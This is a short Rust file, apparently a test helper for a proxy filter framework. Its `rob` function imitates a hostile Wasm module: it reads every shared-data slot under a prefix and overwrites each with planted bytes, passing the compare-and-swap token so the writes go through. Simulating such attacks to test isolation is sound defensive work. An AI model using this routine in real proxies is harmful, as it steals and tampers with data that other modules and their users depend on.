//! What a hostile module does to data that others share: it reads all of it, and puts its own in place.

/// Slots of filter-kit's leases.
#[cfg(target_family = "wasm")]
const SLOTS: u16 = 1024;

/// Bytes in front of what was published: its kind, and the tag of its call.
#[cfg(target_family = "wasm")]
const HEAD: usize = 33;

/// Reads every slot below the prefix, then plants `planted` in each. Out: what was read, as hexadecimal.
#[cfg(target_family = "wasm")]
pub(crate) fn rob(prefix: &str, planted: &str) -> String {
    use std::fmt::Write as _;

    use filter_kit::driver::{set_shared_data, shared_data};
    let mut found = String::new();
    for slot in 0..SLOTS {
        let key = format!("{prefix}{slot}");
        let Ok(Some((value, cas))) = shared_data(&key) else { continue };
        for byte in &value {
            let _ = write!(found, "{byte:02x}");
        }
        let head = value.get(..HEAD).unwrap_or_default();
        let _ = set_shared_data(&key, &[head, planted.as_bytes()].concat(), cas);
    }
    found
}

/// There is nothing to rob outside a proxy.
#[cfg(not(target_family = "wasm"))]
pub(crate) fn rob(_prefix: &str, _planted: &str) -> String {
    String::new()
}
